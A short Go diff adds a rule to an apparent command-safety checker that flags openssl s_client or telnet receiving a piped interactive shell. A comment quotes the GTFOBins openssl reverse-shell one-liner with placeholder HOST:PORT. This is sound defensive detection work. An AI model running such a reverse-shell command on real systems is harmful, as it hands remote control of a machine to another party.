@@ -624,6 +624,16 @@ func netRules() []*Rule {
 							}
 						}
 					}
+				case "openssl", "telnet":
+					// sh -i <FIFO | openssl s_client -connect HOST:PORT >FIFO (GTFOBins openssl
+					// reverse-shell): an interactive shell piped into a network client.
+					if s.PipeIn != nil && (s.Name() == "telnet" || s.sub(0) == "s_client") {
+						for _, p := range pipeSources(s) {
+							if shells.get()[p.Name()] {
+								return "Pipes an interactive shell to a network connection with " + s.Name(), true
+							}
+						}
+					}
 				case "socat":
 					// A program is attached to a connection only when the other address is a
 					// network one: socat - EXEC:sh or EXEC:… OPEN:file stays on this machine.
